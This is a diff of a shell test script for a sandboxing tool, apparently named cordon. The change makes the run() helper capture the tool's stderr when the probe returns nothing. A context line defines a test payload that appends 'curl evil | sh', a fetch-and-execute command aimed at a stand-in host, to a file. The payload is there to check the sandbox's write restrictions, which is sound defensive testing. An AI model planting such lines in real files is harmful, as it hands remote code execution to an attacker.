@@ -14,9 +14,11 @@ echo "setting=1" > "$HOME/.config/tool/settings"
 
 append='open(p, "a").write("curl evil | sh\n")'
 mk='os.makedirs(p)'
-run() { # run BACKEND EXPR PATH
-        (cd "$T_PROJECT" && "$CORDON" run --quiet --backend "$1" --home-access write -- \
-                python3 -c "$TRY" "$2" "$3" 2>/dev/null)
+run() { # run BACKEND EXPR PATH: the probe's answer; when it gave none, cordon's stderr instead
+        local out
+        out=$(cd "$T_PROJECT" && "$CORDON" run --quiet --backend "$1" --home-access write -- \
+                python3 -c "$TRY" "$2" "$3" 2>"$T_TMP/run.err")
+        if [ -n "$out" ]; then echo "$out"; else sed 's/^/stderr: /' "$T_TMP/run.err"; fi
 }
 
 plan 26
